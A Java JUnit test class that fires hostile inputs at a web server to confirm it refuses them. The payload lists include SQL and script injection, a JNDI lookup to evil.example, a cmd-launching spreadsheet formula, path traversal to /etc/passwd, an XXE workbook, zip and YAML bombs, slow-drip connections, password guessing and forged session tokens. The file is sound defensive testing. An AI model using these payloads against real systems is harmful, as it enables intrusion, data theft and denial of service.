package org.holdfast.studio;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.net.Socket;
import java.net.http.HttpRequest.BodyPublishers;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.InstantSource;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.holdfast.ledger.LedgerStore;
import org.holdfast.studio.Server.Person;
import org.holdfast.studio.accounts.Authentication;
import org.holdfast.studio.accounts.Role;
import org.holdfast.studio.runs.StandIn;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What someone tries who means harm, one by one. */
class HostileTest {
    private static final List<String> INJECTIONS =
            List.of(
                    "' OR '1'='1",
                    "x'); DROP TABLE account; --",
                    "<script>alert(1)</script>",
                    "\"><img src=x onerror=alert(1)>",
                    "../../etc/passwd",
                    "..\\..\\windows",
                    "a\r\nSet-Cookie: holdfast=evil",
                    "\u0000",
                    "\u202Etxt.exe",
                    "${jndi:ldap://evil.example/a}",
                    "{{7*7}}",
                    "=cmd|' /C calc'!A0",
                    "a".repeat(5000));

    private static final Duration IDLE = Duration.ofMillis(700);

    @TempDir
    @SuppressWarnings("NullAway.Init") // JUnit sets it
    private Path folder;

    private static String quoted(String text) {
        return Server.JSON.writeValueAsString(text);
    }

    private static String encoded(String text) {
        return java.net.URLEncoder.encode(text, StandardCharsets.UTF_8).replace("+", "%20");
    }

    private static void refusedWell(HttpResponse<String> answer, String what) {
        assertThat(answer.statusCode()).as(what + answer.body()).isBetween(400, 499);
        answer.headers()
                .firstValue("Content-Type")
                .ifPresent(type -> assertThat(type).as(what).doesNotContain("text/html"));
        assertThat(answer.headers().firstValue("Set-Cookie")).as(what).isEmpty();
        assertThat(answer.body()).as(what).doesNotContain("org.holdfast", "java.", "SQLException");
    }

    /** Sends bytes as they are; returns what comes back until the server closes. */
    private static String raw(Server server, String request) {
        try (Socket socket = new Socket("localhost", server.studio().port())) {
            socket.setSoTimeout(20_000);
            OutputStream out = socket.getOutputStream();
            out.write(request.getBytes(StandardCharsets.ISO_8859_1));
            out.flush();
            return new String(socket.getInputStream().readAllBytes(), StandardCharsets.ISO_8859_1);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** For one person, with little patience. */
    private Server hurried(Duration idle) {
        return Server.start(
                folder, Server.store(folder), Server.How.ALONE.hurried(idle), new StandIn());
    }

    private static String get(Server server, String path) {
        return raw(
                server,
                "GET " + path + " HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n");
    }

    // ---- Injection.

    @Test
    void noTextFieldIsAnythingButText() {
        try (Server server = Server.team(folder, Server.store(folder))) {
            Person boss = server.signedIn("boss", Role.ADMINISTRATOR);
            for (String evil : INJECTIONS) {
                String text = quoted(evil);
                refusedWell(
                        boss.post("api/users", "{\"name\":" + text + ",\"role\":\"reader\"}"),
                        "name " + evil);
                refusedWell(
                        boss.post("api/users", "{\"name\":\"otto\",\"role\":" + text + "}"),
                        "role " + evil);
                refusedWell(
                        boss.put(
                                "api/users/" + encoded(evil),
                                "{\"role\":\"reader\",\"active\":true}"),
                        "user " + evil);
                refusedWell(
                        boss.post("api/runs", "{\"case\":" + text + ",\"kind\":\"plan\"}"),
                        "case " + evil);
                refusedWell(
                        boss.post("api/runs", "{\"case\":\"tiny\",\"kind\":" + text + "}"),
                        "kind " + evil);
                refusedWell(
                        boss.post(
                                "api/runs",
                                "{\"case\":\"tiny\",\"kind\":\"plan\",\"scenario\":" + text + "}"),
                        "scenario " + evil);
                refusedWell(
                        boss.post(
                                "api/runs",
                                "{\"case\":\"tiny\",\"kind\":\"plan\",\"settings\":{"
                                        + text
                                        + ":1}}"),
                        "lever " + evil);
                refusedWell(boss.get("api/runs/" + encoded(evil)), "run " + evil);
                refusedWell(boss.get("data/tiny/" + encoded(evil)), "page " + evil);
                refusedWell(boss.get("data/" + encoded(evil) + "/sources.en.json"), "case " + evil);
                refusedWell(
                        boss.upload("api/ledger?name=" + encoded(evil), new byte[] {1}),
                        "file " + evil);
            }
            assertThat(Server.json(boss.get("api/users")).path("users")).hasSize(1);
        }
    }

    /** Who sends the next call into a connection that is about to be closed gets no answer. */
    @Test
    void aCallThatEndsItsConnectionIsToldSo() {
        try (Server server = Server.team(folder, Server.store(folder))) {
            String answer =
                    raw(
                            server,
                            "GET /data/%00/sources.en.json HTTP/1.1\r\nHost: localhost\r\n\r\n");
            assertThat(answer).startsWith("HTTP/1.1 400");
            assertThat(answer).containsIgnoringCase("connection: close");
        }
    }

    @Test
    void signingInWithOddTextSignsNobodyIn() {
        try (Server server = Server.team(folder, Server.store(folder))) {
            server.signedIn("boss", Role.ADMINISTRATOR);
            for (String evil : INJECTIONS) {
                HttpResponse<String> answer =
                        server.someone()
                                .post(
                                        "api/session",
                                        "{\"name\":"
                                                + quoted(evil)
                                                + ",\"password\":"
                                                + quoted(evil)
                                                + "}");
                refusedWell(answer, evil);
            }
            assertThat(server.store().accounts(InstantSource.system()).all()).hasSize(1);
        }
    }

    @Test
    void aNoteIsShownAsItWasWrittenAndNeverAsAPage() {
        try (Server server = Server.team(folder, Server.store(folder))) {
            Person iris = server.signedIn("iris", Role.ANALYST);
            Person eve = server.signedIn("eve", Role.APPROVER);
            server.work().release(1);
            String id = iris.ask(1);
            iris.await(id, "done");
            String note = "<script>alert('x')</script> \"; DROP TABLE audit_entry; --";
            eve.put("api/runs/" + id + "/approval", "{\"note\":" + quoted(note) + "}");
            HttpResponse<String> run = iris.get("api/runs/" + id);
            assertThat(Server.json(run).path("approval").path("note").asString()).isEqualTo(note);
            assertThat(run.headers().firstValue("Content-Type")).contains("application/json");
        }
    }

    @Test
    void theWelcomePageTellsAnyKeyAsText() {
        try (Server server = Server.team(folder, Server.store(folder))) {
            HttpResponse<String> page =
                    server.someone().get("welcome?key=" + encoded("\"><script>alert(1)</script>"));
            assertThat(page.body()).doesNotContain("<script", "alert(1)");
        }
    }

    // ---- Path traversal.

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/../../etc/passwd",
                "/..%2f..%2fetc%2fpasswd",
                "/%2e%2e/%2e%2e/etc/passwd",
                "/assets/..%5c..%5cetc%5cpasswd",
                "//etc/passwd",
                "/data/..%2f..%2f/etc/passwd",
                "/data/tiny/..%2fcases.json",
                "/data/tiny/..;/x",
                "/api/runs/..%2f..%2fholdfast.db",
                "/holdfast.db",
                "/.git/config",
                "/%00",
                "/a%00.html"
            })
    void noAddressLeadsOutOfWhatIsServed(String path) throws IOException {
        Files.writeString(folder.resolve("secret"), "root:x:0");
        try (Server server = Server.alone(folder)) {
            String answer = get(server, path);
            assertThat(answer).matches("(?s)HTTP/1.1 (400|404).*");
            assertThat(answer).doesNotContain("root:x:0", "SQLite format");
        }
    }

    @Test
    void aFileOfARunIsOneOfItsFiles() {
        try (Server server = Server.alone(folder)) {
            Person iris = server.someone();
            server.work().release(1);
            String id = iris.ask(1);
            iris.await(id, "done");
            assertThat(iris.get("api/runs/" + id + "/files/answer.csv").statusCode())
                    .isEqualTo(200);
            for (String name : List.of("..%2frun.json", "run.json", "..%2f..%2f..%2fholdfast.db")) {
                assertThat(get(server, "/api/runs/" + id + "/files/" + name))
                        .as(name)
                        .matches("(?s)HTTP/1.1 (400|404).*");
            }
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "../evil.csv",
                "/etc/evil.csv",
                "tables/../../evil.csv",
                "tables\\..\\..\\evil.csv",
                "C:evil.csv",
                "tables//evil.csv",
                "a/b/c/d/e/evil.csv",
                "evil\u0000.csv",
                "evil\n.csv",
                "evil.exe",
                "evil.zip",
                "case.yaml/evil.csv"
            })
    void noNameInAnArchiveLeadsOutOfIt(String name) throws IOException {
        try (Server server = Server.alone(folder)) {
            HttpResponse<String> answer =
                    server.someone().upload("api/cases", Archives.tinyWith(name, "x"));
            assertThat(answer.statusCode()).as(answer.body()).isEqualTo(422);
            try (Stream<Path> all = Files.walk(folder)) {
                assertThat(all).noneMatch(f -> f.toString().contains("evil"));
            }
        }
    }

    // ---- Oversized and deeply nested.

    @Test
    void whatIsTooLargeIsRefusedWithoutBeingKept() throws IOException {
        try (Server server = Server.alone(folder)) {
            Person iris = server.someone();
            assertThat(iris.post("api/runs", "\"" + "a".repeat(2 << 20) + "\"").statusCode())
                    .isBetween(400, 413);
            byte[] large = new byte[3 << 20];
            assertThat(iris.upload("api/cases", large).statusCode()).isEqualTo(413);
            assertThat(iris.upload("api/ledger?name=a.csv", large).statusCode()).isEqualTo(413);
            HttpResponse<String> unannounced =
                    iris.send(
                            "api/ledger?name=a.csv",
                            new String[] {"X-CSRF", iris.csrf()},
                            r ->
                                    r.POST(
                                            BodyPublishers.ofInputStream(() ->
                                                    new java.io.ByteArrayInputStream(large))));
            assertThat(unannounced.statusCode()).isEqualTo(413);
            String header =
                    "GET /api/me HTTP/1.1\r\nHost: localhost\r\nX-Long: %s\r\nConnection: close\r\n\r\n"
                            .formatted("a".repeat(64 << 10));
            assertThat(raw(server, header)).startsWith("HTTP/1.1 431");
            assertThat(get(server, "/" + "a".repeat(64 << 10))).startsWith("HTTP/1.1 41");
            try (Stream<Path> all = Files.list(folder.resolve("incoming"))) {
                assertThat(all).isEmpty();
            }
        }
    }

    @Test
    void deepNestingIsRefused() {
        try (Server server = Server.alone(folder)) {
            Person iris = server.someone();
            refusedWell(
                    iris.post("api/runs", "[".repeat(50_000) + "]".repeat(50_000)), "deep list");
            refusedWell(iris.post("api/runs", "{\"settings\":".repeat(5000)), "deep object");
            refusedWell(
                    iris.post("api/runs", "{\"seed\":" + "9".repeat(5000) + "}"), "long number");
            String yaml = "a: " + "[".repeat(20_000) + "]".repeat(20_000) + "\n";
            HttpResponse<String> deep =
                    iris.upload("api/cases", Archives.tinyWith("case.yaml", yaml));
            assertThat(deep.statusCode()).isEqualTo(422);
            String laughs =
                    """
                    a: &a [x,x,x,x,x,x,x,x,x]
                    b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]
                    c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]
                    d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]
                    e: [*d,*d,*d,*d,*d,*d,*d,*d,*d]
                    """;
            assertThat(
                            iris.upload("api/cases", Archives.tinyWith("case.yaml", laughs))
                                    .statusCode())
                    .isEqualTo(422);
        }
    }

    // ---- Slow clients.

    @Test
    void whoSendsNothingMoreIsNotWaitedFor() {
        try (Server server = hurried(IDLE)) {
            long began = System.nanoTime();
            raw(server, "GET /api/me HTTP/1.1\r\nHost: localh");
            raw(
                    server,
                    "POST /api/session HTTP/1.1\r\nHost: localhost\r\nContent-Length: 1000\r\n\r\n{");
            assertThat((System.nanoTime() - began) / 1e9).isLessThan(15);
            assertThat(server.someone().get("health").statusCode()).isEqualTo(200);
        }
    }

    @Test
    void manyWhoDawdleDoNotKeepOthersOut() throws IOException {
        try (Server server = hurried(IDLE)) {
            List<Socket> sockets = new java.util.ArrayList<>();
            try {
                for (int k = 0; k < 300; k++) {
                    Socket socket = new Socket("localhost", server.studio().port());
                    socket.getOutputStream().write("GET /".getBytes(StandardCharsets.US_ASCII));
                    sockets.add(socket);
                }
                assertThat(server.someone().get("health").statusCode()).isEqualTo(200);
            } finally {
                for (Socket socket : sockets) {
                    socket.close();
                }
            }
        }
    }

    @Test
    void whoDripsABodyIsCutOff() throws Exception {
        try (Server server = hurried(IDLE);
                Socket socket = new Socket("localhost", server.studio().port())) {
            Person iris = server.someone();
            OutputStream out = socket.getOutputStream();
            out.write(
                    ("POST /api/ledger?name=a.csv HTTP/1.1\r\nHost: localhost\r\nX-CSRF: "
                                    + iris.csrf()
                                    + "\r\nContent-Length: 100000\r\n\r\n")
                            .getBytes(StandardCharsets.US_ASCII));
            boolean cut = false;
            InputStream in = socket.getInputStream();
            for (int k = 0; k < 100 && !cut; k++) {
                try {
                    out.write('a');
                    out.flush();
                    Thread.sleep(100);
                    cut = in.available() > 0;
                } catch (IOException e) {
                    cut = true;
                }
            }
            assertThat(cut).isTrue();
        }
    }

    private static boolean isOver(InputStream in) throws IOException {
        try {
            return in.read() < 0;
        } catch (java.net.SocketTimeoutException e) {
            return false; // nothing came yet
        }
    }

    /** Sends a byte again and again; how many seconds it takes until the server has had enough. */
    private static double dripped(Server server, String begin, String drop) throws Exception {
        long began = System.nanoTime();
        try (Socket socket = new Socket("localhost", server.studio().port())) {
            OutputStream out = socket.getOutputStream();
            InputStream in = socket.getInputStream();
            out.write(begin.getBytes(StandardCharsets.US_ASCII));
            socket.setSoTimeout(1);
            for (int k = 0; k < 100; k++) {
                out.write(drop.getBytes(StandardCharsets.US_ASCII));
                out.flush();
                Thread.sleep(100);
                if (isOver(in)) {
                    break;
                }
            }
        } catch (java.net.SocketException e) {
            return (System.nanoTime() - began) / 1e9;
        }
        return (System.nanoTime() - began) / 1e9;
    }

    @Test
    void whoDripsTheHeadOfACallIsCutOff() throws Exception {
        try (Server server = hurried(IDLE)) {
            assertThat(dripped(server, "GET /api/me HTTP/1.1\r\nX-A: ", "a")).isLessThan(5);
            String whole = "GET /api/me HTTP/1.1\r\nHost: localhost\r\n\r\n";
            assertThat(dripped(server, whole + "GET /api/me HTTP/1.1\r\nX-A: ", "a"))
                    .as("on a connection that was used before")
                    .isLessThan(5);
        }
    }

    @Test
    void whoIsRefusedBeforeAllIsSentCanCallAgainOnTheSameConnection() throws Exception {
        try (Server server = Server.team(folder, Server.store(folder));
                Socket socket = new Socket("localhost", server.studio().port())) {
            socket.setSoTimeout(5_000);
            OutputStream out = socket.getOutputStream();
            out.write(
                    "PUT /api/users/otto HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: 2\r\n\r\n"
                            .getBytes(StandardCharsets.ISO_8859_1));
            out.flush();
            Thread.sleep(100);
            out.write(
                    "{}GET /api/me HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n"
                            .getBytes(StandardCharsets.ISO_8859_1));
            out.flush();
            String said =
                    new String(socket.getInputStream().readAllBytes(), StandardCharsets.ISO_8859_1);

            assertThat(said.split("HTTP/1.1 ")).as(said).hasSize(3);
        }
    }

    @Test
    void whatIsSentWithACallHasATimeInAll() throws Exception {
        try (Server server = hurried(IDLE)) {
            String csrf = server.someone().csrf();
            String head =
                    "POST /api/ledger?name=a.csv HTTP/1.1\r\nHost: localhost\r\nX-CSRF: "
                            + csrf
                            + "\r\nContent-Length: 1000000\r\n\r\n";
            assertThat(dripped(server, head, "a".repeat(200)))
                    .as("faster than the slowest that is waited for")
                    .isBetween(1.0, 6.0);
        }
    }

    @Test
    void whoWaitsForEventsIsLeftInPeace() throws Exception {
        try (Server server = hurried(Duration.ofSeconds(20))) {
            Person iris = server.someone();
            String id = iris.ask(1);
            iris.await(id, "running");
            try (var pool = java.util.concurrent.Executors.newSingleThreadExecutor()) {
                var events =
                        pool.submit(() ->
                                iris.get(
                                        "api/runs/" + id + "/events",
                                        "Accept",
                                        "text/event-stream"));
                Thread.sleep(2500); // longer than a head or a body may take
                assertThat(events.isDone()).isFalse();
                server.work().release(1);
                assertThat(events.get().body()).contains("\"state\":\"done\"");
            }
        }
    }

    // ---- Guessing at the door.

    private static HttpResponse<String> attempt(
            Person from, String name, String password, String address) {
        return from.post(
                "api/session",
                "{\"name\":" + quoted(name) + ",\"password\":" + quoted(password) + "}",
                "X-Forwarded-For",
                address);
    }

    @Test
    void nobodyLocksTheRightOwnerOfANameOut() {
        Server.How behind = Server.How.TEAM.withProxy();
        try (Server server = Server.start(folder, Server.store(folder), behind, new StandIn())) {
            server.signedIn("boss", Role.ADMINISTRATOR);
            Person mallory = server.someone();
            for (int k = 0; k < 6; k++) {
                assertThat(attempt(mallory, "boss", "a wrong one " + k, "203.0.113.1").statusCode())
                        .isEqualTo(401);
            }
            assertThat(attempt(mallory, "boss", "a wrong one", "203.0.113.1").statusCode())
                    .as("the address that guesses is refused")
                    .isEqualTo(429);
            boolean slowed = false;
            for (int k = 0; k < 60 && !slowed; k++) {
                long before = System.nanoTime();
                attempt(mallory, "boss", "a wrong one", "203.0.113." + (10 + k));
                slowed = k >= 6 && (System.nanoTime() - before) / 1e9 > 1.5;
            }
            assertThat(slowed).as("guesses from ever new addresses").isTrue();
            long began = System.nanoTime();
            assertThat(attempt(server.someone(), "boss", Server.PASSWORD, "198.51.100.7"))
                    .extracting(HttpResponse::statusCode)
                    .isEqualTo(204);
            assertThat((System.nanoTime() - began) / 1e9).as("only slower").isBetween(1.5, 10.0);
        }
    }

    @Test
    void manyAddressesOfOneNetworkCountAsOne() {
        InstantSource clock = InstantSource.system();
        try (Authentication authentication =
                new Authentication(
                        Server.store(folder).accounts(clock), true, "test", act -> {}, clock)) {
            for (int k = 1; k <= 20; k++) {
                authentication.limit("2001:db8:0:0:0:0:0:" + k);
            }
            org.assertj.core.api.Assertions.assertThatThrownBy(
                            () -> authentication.limit("2001:db8:0:0:0:0:0:99"))
                    .isInstanceOf(org.holdfast.studio.http.ApiError.class);
            authentication.limit("2001:db8:0:1:0:0:0:99");
        }
    }

    @Test
    void theLogNamesTheCallerAndNotTheServerBeforeUs() {
        Server.How behind = Server.How.TEAM.withProxy();
        Server server = Server.start(folder, Server.store(folder), behind, new StandIn());
        try (server) {
            server.signedIn("boss", Role.ADMINISTRATOR);
            attempt(server.someone(), "boss", "a wrong one", "203.0.113.9, 198.51.100.7");
        }
        List<String> entries = new java.util.ArrayList<>();
        new org.holdfast.store.audit.AuditLog(server.store().audit(), InstantSource.system())
                .read(line -> entries.add(line.text()));
        assertThat(entries)
                .anyMatch(e -> e.contains("refused") && e.contains("198.51.100.7"))
                .noneMatch(e -> e.contains("203.0.113.9"));
    }

    @Test
    void whoIsRefusedDoesNotSeeByTheClockWhetherTheNameIsKnown() throws Exception {
        InstantSource clock = InstantSource.system();
        var written = new java.util.concurrent.CountDownLatch(1);
        var accounts = Server.store(folder).accounts(clock);
        try (Authentication slow =
                new Authentication(
                        accounts,
                        true,
                        "test",
                        act -> {
                            try {
                                written.await(); // a log that takes as long as it likes
                            } catch (InterruptedException e) {
                                Thread.currentThread().interrupt();
                            }
                        },
                        clock)) {
            slow.add("iris", Role.READER, Server.PASSWORD, "test");
            for (String name : List.of("iris", "nobody")) {
                org.assertj.core.api.Assertions.assertThatThrownBy(
                                () -> slow.signIn(name, "a wrong one", "127.0.0.1"))
                        .isInstanceOf(org.holdfast.studio.http.ApiError.class);
            }
            written.countDown();
        }
    }

    @Test
    void signingInElsewhereHasItsPace() {
        try (Server server = Server.team(folder, Server.store(folder))) {
            Person mallory = server.someone();
            int last = 0;
            for (int k = 0; k < 25; k++) {
                last = mallory.get("api/openid/start").statusCode();
            }
            assertThat(last).isEqualTo(429);
        }
    }

    @Test
    void anInvitationOfSomeoneWhoWasDismissedOpensNothing() {
        try (Server server = Server.team(folder, Server.store(folder))) {
            Person boss = server.signedIn("boss", Role.ADMINISTRATOR);
            Person iris = server.signedIn("iris", Role.ADMINISTRATOR);
            String own = link(iris, "iris");
            String friend = link(iris, "eve");
            boss.put("api/users/iris", "{\"role\":\"reader\",\"active\":false}");
            for (String key : List.of(own, friend)) {
                assertThat(
                                TeamContract.welcome(
                                                server.someone(),
                                                key,
                                                Server.PASSWORD,
                                                Server.PASSWORD)
                                        .statusCode())
                        .isEqualTo(404);
            }
            assertThat(boss.post("api/users", "{\"name\":\"iris\",\"role\":\"reader\"}").body())
                    .contains("This account was closed");
            String down = link(boss, "boss", "reader");
            assertThat(
                            TeamContract.welcome(
                                            server.someone(),
                                            down,
                                            Server.PASSWORD,
                                            Server.PASSWORD)
                                    .body())
                    .contains("This is the last administrator.");
        }
    }

    private static String link(Person from, String name) {
        return link(from, name, "administrator");
    }

    private static String link(Person from, String name, String role) {
        String body = "{\"name\":" + quoted(name) + ",\"role\":" + quoted(role) + "}";
        String link = Server.json(from.post("api/users", body)).path("link").asString();
        return link.substring(link.indexOf('=') + 1);
    }

    // ---- Forged sessions, replay, other sites.

    @Test
    void aSessionCannotBeMadeUp() {
        try (Server server = Server.team(folder, Server.store(folder))) {
            server.signedIn("boss", Role.ADMINISTRATOR);
            for (String forged :
                    List.of(
                            "admin",
                            "boss",
                            "",
                            "0",
                            "a".repeat(43),
                            "a".repeat(9000),
                            "' OR 1=1 --",
                            "eyJhbGciOiJub25lIn0.eyJzdWIiOiJib3NzIn0.")) {
                String answer =
                        raw(
                                server,
                                "GET /api/users HTTP/1.1\r\nHost: localhost\r\nCookie: holdfast="
                                        + forged
                                        + "\r\nConnection: close\r\n\r\n");
                assertThat(answer).as(forged).startsWith("HTTP/1.1 401");
            }
        }
    }

    @Test
    void aSessionThatWasEndedDoesNotComeBack() {
        try (Server server = Server.team(folder, Server.store(folder))) {
            Person iris = server.signedIn("iris", Role.ANALYST);
            HttpResponse<String> signedIn =
                    iris.post(
                            "api/session",
                            "{\"name\":\"iris\",\"password\":\"" + Server.PASSWORD + "\"}");
            String cookie = signedIn.headers().firstValue("Set-Cookie").orElseThrow();
            assertThat(cookie).contains("HttpOnly", "SameSite=Strict");
            String kept = cookie.substring(0, cookie.indexOf(';'));
            String request =
                    "GET /api/runs HTTP/1.1\r\nHost: localhost\r\nCookie: "
                            + kept
                            + "\r\nConnection: close\r\n\r\n";
            assertThat(raw(server, request)).startsWith("HTTP/1.1 200");
            String csrf = Server.json(iris.get("api/me")).path("csrf").asString();
            iris.send("api/session", new String[] {"X-CSRF", csrf}, r -> r.DELETE());
            assertThat(raw(server, request)).startsWith("HTTP/1.1 401");
        }
    }

    @Test
    void aTokenOfOneSessionIsNotGoodForAnother() {
        try (Server server = Server.team(folder, Server.store(folder))) {
            Person iris = server.signedIn("iris", Role.ANALYST);
            Person otto = server.signedIn("otto", Role.ANALYST);
            HttpResponse<String> answer =
                    otto.send(
                            "api/runs",
                            new String[] {
                                "X-CSRF", iris.csrf(), "Content-Type", "application/json"
                            },
                            r -> r.POST(BodyPublishers.ofString(Person.explore(1))));
            assertThat(answer.statusCode()).isEqualTo(403);
        }
    }

    @Test
    void aPageOfAnotherSiteChangesNothing() {
        try (Server server = Server.alone(folder)) {
            Person iris = server.someone();
            String run = Person.explore(1);
            assertThat(iris.post("api/runs", run, "Origin", "https://evil.example").statusCode())
                    .isEqualTo(403);
            assertThat(iris.post("api/runs", run, "Sec-Fetch-Site", "cross-site").statusCode())
                    .isEqualTo(403);
            assertThat(
                            iris.send(
                                            "api/runs",
                                            new String[] {"Content-Type", "text/plain"},
                                            r -> r.POST(BodyPublishers.ofString(run)))
                                    .statusCode())
                    .isEqualTo(403);
            assertThat(
                            iris.get("api/me", "Origin", "https://evil.example")
                                    .headers()
                                    .firstValue("Access-Control-Allow-Origin"))
                    .isEmpty();
            assertThat(Server.json(iris.get("api/runs")).path("runs")).isEmpty();
        }
    }

    @Test
    void aNameThatPointsHereFromElsewhereIsNotOurs() {
        try (Server server = Server.alone(folder)) {
            assertThat(
                            raw(
                                    server,
                                    "GET /api/me HTTP/1.1\r\nHost: evil.example:80\r\nConnection:"
                                            + " close\r\n\r\n"))
                    .startsWith("HTTP/1.1 421")
                    .doesNotContain("csrf");
            assertThat(raw(server, "GET /api/me HTTP/1.0\r\n\r\n")).doesNotContain("csrf\"");
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "//evil.example",
                "/welcome?key=x&next=https://evil.example",
                "/api/openid/back?state=x&code=y&redirect_uri=https://evil.example",
                "/?next=//evil.example",
                "/\\evil.example"
            })
    void noAddressSendsABrowserToAnotherSite(String path) {
        try (Server server = Server.alone(folder)) {
            assertThat(get(server, path)).doesNotContainIgnoringCase("location:");
        }
    }

    // ---- Bombs.

    private static byte[] zeros(String name, int megabytes) {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
            zip.putNextEntry(new ZipEntry(name));
            byte[] much = new byte[1 << 20];
            for (int k = 0; k < megabytes; k++) {
                zip.write(much);
            }
            zip.closeEntry();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return bytes.toByteArray();
    }

    @Test
    void anArchiveThatUnpacksToTooMuchIsRefused() throws IOException {
        try (Server server = Server.alone(folder)) {
            HttpResponse<String> bomb =
                    server.someone().upload("api/cases", zeros("tables/stocks.csv", 200));
            assertThat(bomb.statusCode()).isEqualTo(422);
            assertThat(bomb.body()).contains("unpacks to more");
            Map<String, byte[]> many = new LinkedHashMap<>();
            for (int k = 0; k < 2000; k++) {
                many.put("tables/t" + k + ".csv", new byte[0]);
            }
            assertThat(server.someone().upload("api/cases", Archives.of(many)).statusCode())
                    .isEqualTo(422);
            assertThat(
                            server.someone()
                                    .upload("api/cases", new byte[] {'P', 'K', 3, 4, 9})
                                    .statusCode())
                    .isEqualTo(422);
            assertThat(server.someone().upload("api/cases", new byte[0]).statusCode())
                    .isEqualTo(422);
            try (Stream<Path> all = Files.list(folder.resolve("incoming"))) {
                assertThat(all).isEmpty();
            }
        }
    }

    @Test
    void aWorkbookThatIsABombIsRefused() {
        String laughs =
                "<?xml version=\"1.0\"?><!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY a"
                        + " \"&lol;&lol;&lol;\"><!ENTITY x SYSTEM \"file:///etc/passwd\">]>"
                        + "<workbook>&a;&x;</workbook>";
        byte[] xml =
                Archives.of(
                        Map.of(
                                "[Content_Types].xml",
                                "<Types/>".getBytes(StandardCharsets.UTF_8),
                                "xl/workbook.xml",
                                laughs.getBytes(StandardCharsets.UTF_8)));
        try (Server server = Server.alone(folder)) {
            Person iris = server.someone();
            HttpResponse<String> entities = iris.upload("api/ledger?name=bomb.xlsx", xml);
            assertThat(entities.statusCode()).isEqualTo(422);
            assertThat(entities.body()).contains("DOCTYPE").doesNotContain("root:");
            HttpResponse<String> zip =
                    iris.upload("api/ledger?name=bomb.xlsx", zeros("xl/workbook.xml", 100));
            assertThat(zip.statusCode()).isEqualTo(422);
            assertThat(zip.body()).contains("unpacks to far more");
            try (LedgerStore ledger = server.store().ledger("iris", InstantSource.system())) {
                assertThat(ledger.imports()).isEmpty();
            }
        }
    }
}
